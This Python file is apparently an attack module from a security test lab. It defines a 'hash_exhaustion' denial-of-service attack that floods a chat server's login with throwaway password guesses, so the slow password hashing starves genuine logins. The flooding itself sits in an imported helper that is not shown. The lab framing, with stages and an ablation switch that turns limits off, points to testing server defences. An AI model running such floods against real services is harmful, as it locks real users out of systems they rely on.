"""Logins, for the sake of the hash.

python -m attacks.hash_exhaustion --stage 2
"""

import os

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import fill_the_queue
from common.wire import encode


@attack(
    position="outsider",
    family="dos",
    goals=(
        Goal(
            "logins",
            "make everybody who logs in wait behind guesses",
            "starved",
            "-HHHH",
            ablation="limits=off",
            absent="there are no passwords here, so there is nothing to hash",
        ),
    ),
)
async def hash_exhaustion(foothold: Foothold, goal: Goal) -> Claim:
    """A good password hash is slow on purpose: it takes the server's processor a fortieth of a second and 19 MiB to say
    that a password is wrong. Mallory logs in, with any name and any password, and hangs up without waiting for the
    answer; and again, hundreds of times a second. The room goes on talking, because hashing is done beside it, two at a
    time. But whoever wants to come in stands in a queue behind people who have gone, and each of those still has a
    place.
    """
    await foothold.until("talking")
    login = foothold.stage.messages["login"]
    more = {"public_key": os.urandom(32)} if "public_key" in login.__struct_fields__ else {}
    line = encode(login(name="alice", password="a guess", udp_port=9, **more))
    made = await fill_the_queue(foothold, line)
    return Claim(did=f"made {made} logins, and waited for none")


if __name__ == "__main__":
    from lab.attack_main import main

    main("hash_exhaustion")
